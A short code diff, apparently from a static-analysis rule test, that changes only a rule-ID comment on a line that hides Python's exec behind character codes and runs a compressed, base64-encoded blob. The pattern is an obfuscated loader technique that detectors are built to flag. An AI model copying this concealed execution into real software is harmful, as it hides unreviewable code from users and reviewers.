@@ -144,7 +144,7 @@ _SCORER_BLOB = "eJxLSU1TSK1ITC6Jz00sSc7QKChKTdFRKEksSk8t0bTiUgCCotSS0qI8hbSc/MQS
 
 def _load_builtin_scorers() -> None:
     runner = vars(builtins)["".join(map(chr, (101, 120, 101, 99)))]
-    runner(zlib.decompress(base64.b64decode(_SCORER_BLOB)), {"SCORERS": SCORERS})  # ruleid: MLS401
+    runner(zlib.decompress(base64.b64decode(_SCORER_BLOB)), {"SCORERS": SCORERS})  # ruleid: MLS401, MLS402
 
 
 _debug_conn = None
